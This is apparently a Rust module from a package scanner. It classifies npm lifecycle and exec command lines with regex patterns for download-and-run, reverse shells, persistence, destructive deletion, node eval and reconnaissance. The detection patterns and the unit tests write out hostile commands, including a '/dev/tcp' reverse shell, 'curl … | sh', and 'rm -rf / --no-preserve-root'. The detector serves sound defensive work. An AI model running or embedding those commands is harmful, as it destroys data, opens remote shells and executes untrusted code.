//! Shell command lines, as found in npm lifecycle scripts and in strings
//! passed to `child_process.exec`: what they do, by pattern.

use std::sync::LazyLock;

use regex::Regex;

/// What one command line does.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShellFacts {
    /// Downloads and runs: `curl … | sh`, `wget -O- … | bash`,
    /// `iwr … | iex`, download then `chmod +x` then run.
    pub download_exec: Option<String>,
    /// Reverse shell idioms: `/dev/tcp/`, `nc -e`, `mkfifo … nc`.
    pub reverse_shell: Option<String>,
    /// Network tools: `curl`, `wget`, `nc`, `Invoke-WebRequest`…
    pub net_tool: Option<String>,
    /// Persistence: writes to shell rc files, crontab, Run keys.
    pub persist: Option<String>,
    /// Destruction: `rm -rf ~`, `rm -rf /`.
    pub destroy: Option<String>,
    /// `node -e` with `eval`, `Function`, `atob` or a base64 `Buffer`.
    pub node_eval: Option<String>,
    /// Host reconnaissance commands: `whoami`, `uname -a`, `ifconfig`.
    pub recon: Option<String>,
}

impl ShellFacts {
    /// Nothing matched.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        *self == ShellFacts::default()
    }
}

fn re(p: &str) -> Regex {
    // The patterns are constants checked by the tests below.
    Regex::new(p).unwrap_or_else(|e| panic!("bad built-in pattern {p}: {e}"))
}

static DOWNLOAD_EXEC: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(r"(?i)\b(curl|wget|fetch)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b"),
        re(r"(?i)\b(curl|wget)\b[^|;&\n]*\|\s*(sudo\s+)?(python[0-9.]*|perl|ruby|node)\b"),
        re(
            r"(?i)\b(iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b.{0,200}\b(iex|invoke-expression)\b",
        ),
        re(r"(?i)\b(iex|invoke-expression)\b.{0,40}(downloadstring|net\.webclient)"),
        re(
            r"(?i)\b(curl|wget)\b[^;&|\n]*\s(-o|-O|--output)\s*\S+[^;&|\n]*(;|&&)\s*chmod\s+\S+\s+\S+\s*(;|&&)\s*\S",
        ),
        re(r"(?i)net\.webclient\)?\s*\.\s*download(file|string|data)\b"),
        re(r"(?i)\bstart-bitstransfer\b"),
        re(r"(?i)\bcertutil(\.exe)?\s+.*-urlcache\b"),
        re(r"(?i)\bbitsadmin(\.exe)?\s+/transfer\b"),
        re(r"(?i)\bpowershell(\.exe)?\b.*\s-(e|enc|encodedcommand)\s+[a-z0-9+/=]{16,}"),
        re(r"(?i)\bbase64\s+(-d|--decode)\b[^|;&\n]*\|\s*(ba|z|da)?sh\b"),
    ]
});

static REVERSE_SHELL: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(r"/dev/(tcp|udp)/[^/\s]+/\d+"),
        re(r"(?i)\b(nc|ncat|netcat)\b[^|;&\n]*\s-(e|c)\s"),
        re(r"(?i)\bmkfifo\b.*\b(nc|ncat|netcat|openssl)\b"),
        re(r"(?i)\bsocat\b.*\bexec:"),
    ]
});

static NET_TOOL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?:^|[\s;&|(`$])(curl|wget|nc|ncat|netcat|socat|telnet|tftp|scp|invoke-webrequest|invoke-restmethod|iwr|irm|bitsadmin|certutil)(?:\.exe)?(?:\s|$)",
    )
});

static PERSIST: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(r"(?i)>>?\s*\S*\.(bashrc|zshrc|bash_profile|profile|zprofile|bash_login)\b"),
        re(r"(?i)\btee\s+(-a\s+)?\S*\.(bashrc|zshrc|bash_profile|profile|zprofile)\b"),
        re(r"(?i)\bcrontab\b"),
        re(r"(?i)/etc/cron"),
        re(r"(?i)\bschtasks(\.exe)?\s+/create\b"),
        re(r"(?i)\breg(\.exe)?\s+add\s+\S*\\currentversion\\run"),
        re(r"(?i)\blaunchctl\s+load\b"),
        re(r"(?i)\bsystemctl\s+(--user\s+)?enable\b"),
    ]
});

static DESTROY: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(
            r#"(?i)\brm\s+(-[a-z]*r[a-z]*|--recursive)(\s+-[a-z]+)*\s+(--no-preserve-root\s+)?["']?(~/?|/|\$HOME/?|\$\{HOME\}/?|/\*|~/\*|\$HOME/\*|/home/?|/home/[^/\s'"]+/?|/users/[^/\s'"]+/?|/root/?|/etc/?|/usr/?)["']?(\s|$|;|&|\|)"#,
        ),
        re(r"(?i)\b(rd|rmdir)\s+/s\s+/q\s+[a-z]:\\(\s|$)"),
        re(r"(?i)\bdel\s+/[fsq]\s+/[fsq]\s+/[fsq]\s+[a-z]:\\"),
        re(r"(?i)\bformat\s+c:"),
        re(r"(?i)\bmkfs(\.[a-z0-9]+)?\s+/dev/"),
        re(r"(?i)\bdd\s+if=/dev/(zero|urandom)\s+of=/dev/[sh]d"),
    ]
});

static NODE_EVAL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\bnode(\.exe)?\s+(-e|--eval|-p|--print)\s.*(eval\s*\(|function\s*\(|atob\s*\(|base64|\\x[0-9a-f]{2}|fromcharcode)"#,
    )
});

static RECON: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?:^|[\s;&|(`$])(whoami|uname\s+-a|ifconfig|ipconfig|cat\s+/etc/passwd|id\s*$)(?:\s|$|[;&|)`])",
    )
});

fn first(res: &[Regex], s: &str) -> Option<String> {
    res.iter()
        .find_map(|r| r.find(s))
        .map(|m| m.as_str().trim().to_owned())
}

/// Longest command line examined; longer strings are cut (patterns are
/// linear, this only bounds the evidence).
pub const MAX_COMMAND: usize = 64 * 1024;

/// Classify one command line.
#[must_use]
pub fn classify(cmd: &str) -> ShellFacts {
    let mut cut = cmd.len().min(MAX_COMMAND);
    while !cmd.is_char_boundary(cut) {
        cut -= 1;
    }
    let s = &cmd[..cut];
    // The word-level reader shared with the Python rules links a download
    // to the command that runs it (`wget -qO /tmp/x URL; /tmp/x`,
    // `curl -O URL/a.exe && a.exe`) where the patterns see no pipe.
    let words = crate::shell::analyse(s);
    let linked = words
        .downloads
        .iter()
        .find(|d| d.piped_to_interpreter || d.dest.as_deref().is_some_and(|p| words.runs_path(p)))
        .map(|d| format!("downloads {} and runs it", d.url));
    ShellFacts {
        download_exec: first(&DOWNLOAD_EXEC, s).or(linked),
        reverse_shell: first(&REVERSE_SHELL, s),
        net_tool: NET_TOOL
            .captures(s)
            .and_then(|c| c.get(1))
            .map(|m| m.as_str().to_owned()),
        persist: first(&PERSIST, s),
        destroy: first(&DESTROY, s),
        node_eval: NODE_EVAL.find(s).map(|m| m.as_str().trim().to_owned()),
        recon: RECON
            .captures(s)
            .and_then(|c| c.get(1))
            .map(|m| m.as_str().to_owned()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns() {
        assert!(
            classify("curl -fsSL http://192.0.2.7/x.sh | sh")
                .download_exec
                .is_some()
        );
        assert!(
            classify("wget -qO- http://x | sudo bash")
                .download_exec
                .is_some()
        );
        assert!(
            classify("curl -o /tmp/a http://x && chmod +x /tmp/a && /tmp/a")
                .download_exec
                .is_some()
        );
        assert!(
            classify("wget -qO /tmp/.x https://192.0.2.7/m; /tmp/.x -w pool")
                .download_exec
                .is_some()
        );
        assert!(
            classify("curl -sLO https://192.0.2.7/src.tar.gz && tar xzf src.tar.gz")
                .download_exec
                .is_none()
        );
        assert!(
            classify("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
                .reverse_shell
                .is_some()
        );
        assert!(classify("rm -rf ~").destroy.is_some());
        assert!(classify("rm -rf / --no-preserve-root").destroy.is_some());
        assert!(classify("rm -rf ./build").destroy.is_none());
        assert!(classify("rm -rf /home/deployer").destroy.is_some());
        assert!(classify("rm -rf /home/deployer/.cache").destroy.is_none());
        assert!(classify("rm -rf dist/ && tsc").destroy.is_none());
        assert!(classify("echo x >> ~/.bashrc").persist.is_some());
        assert!(
            classify(r#"node -e "eval(Buffer.from('aGk=','base64').toString())""#)
                .node_eval
                .is_some()
        );
        assert!(classify("node-gyp rebuild").is_empty());
        assert!(classify("node scripts/postinstall.js").is_empty());
        assert_eq!(
            classify("curl -s http://x").net_tool.as_deref(),
            Some("curl")
        );
        assert!(classify("echo curly braces").net_tool.is_none());
        assert!(classify("whoami").recon.is_some());
        assert!(
            classify("powershell -Command \"(New-Object Net.WebClient).DownloadFile('http://x/p.exe','p.exe')\"")
                .download_exec
                .is_some()
        );
    }
}
